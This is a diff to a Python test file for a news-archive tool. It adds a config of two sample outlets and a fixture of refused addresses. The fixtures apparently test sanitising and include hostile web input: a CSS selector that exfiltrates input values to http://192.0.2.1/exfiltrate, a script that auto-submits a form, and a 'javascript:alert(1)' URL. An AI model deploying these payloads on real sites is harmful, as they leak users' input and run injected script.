@@ -13,7 +13,9 @@ from archive.clock import stamp
 from archive.db import sort_at
 from archive.health import coverage
 from archive.health.coverage import Coverage, Rolled
+from archive.home import Home
 from archive.pages import RawPage, keep, open_pages
+from archive.reasons import reason
 from archive.schema import open_archive
 
 NOW = datetime(2026, 11, 21, 4, 0, tzinfo=UTC)  # Saturday 21/11/2026, 11:00 in Hà Nội
@@ -55,6 +57,29 @@ input[value^=a]{background:url(http://192.0.2.1/exfiltrate)}</style>
 <video poster="http://192.0.2.1/poster" src="http://192.0.2.1/video" autoplay></video>
 <script>document.getElementById("f").submit()</script></body></html>""".encode()
 
+SOURCES = """\
+sources:
+  trungdu:
+    name: Báo Trung Du
+    home: https://trungdu.example/
+    kind: provincial
+    article: 'trungdu.example/'
+    feeds: [https://trungdu.example/rss]
+  songche:
+    name: Thời báo Sông Chè
+    home: https://songche.example/
+    kind: national
+    article: 'songche.example/'
+    feeds: [https://songche.example/rss]
+"""
+
+
+def write_sources(home: Home) -> None:
+    """A config of two outlets of the sample."""
+    path = home.path / "config" / "sources.yml"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(SOURCES, encoding="utf-8")
+
 
 def fill_pages(path: Path, now: datetime = NOW) -> None:
     """Write pages.db with two copies of article 1's page, the first one hostile."""
@@ -63,6 +88,46 @@ def fill_pages(path: Path, now: datetime = NOW) -> None:
     for hours, body in ((4, RAW_PAGE), (2, later)):
         at = now - timedelta(hours=hours)
         keep(pages, RawPage("https://trungdu.example/1", "trungdu", at, "text/html; charset=utf-8", body))
+    pages.close()
+
+
+def fill_refused(path: Path, now: datetime = NOW) -> None:
+    """Write addresses into pages.db that were refused, one with a hostile title."""
+    pages = open_pages(path)
+    rows = [
+        (
+            "https://trungdu.example/ngan",
+            "trungdu",
+            "Thái Nguyên vào hạ",
+            "too_short",
+            "too_little_text",
+            "list",
+        ),
+        ("https://songche.example/cam", "songche", "", "robots", "robots", "page"),
+        ("https://songche.example/loi", "songche", HOSTILE, "failed", HOSTILE, "list"),
+        ("javascript:alert(1)", "songche", "Địa chỉ lạ", "failed", "timeout", "list"),
+        ("https://trungdu.example/cu", "trungdu", "Chuyện cũ", "gone", "http", "list"),
+    ]
+    for hours, (url, source, title, outcome, why, names_in) in enumerate(rows, 1):
+        reasons = {
+            "too_little_text": reason("too_little_text", length=21, least=80),
+            "http": reason("http", status=404),
+        }
+        at = stamp(now - timedelta(hours=200 if source == "trungdu" and outcome == "gone" else hours))
+        pages.table("addresses").insert(
+            {
+                "url": url,
+                "source": source,
+                "found_at": at,
+                "found_in": f"https://{source}.example/rss",
+                "hint": json.dumps({"title": title}),
+                "outcome": outcome,
+                "reason": reasons.get(why, why),
+                "ended_at": at,
+                "refused_at": at,
+                "names_in": names_in,
+            }
+        )
     pages.close()
 
 
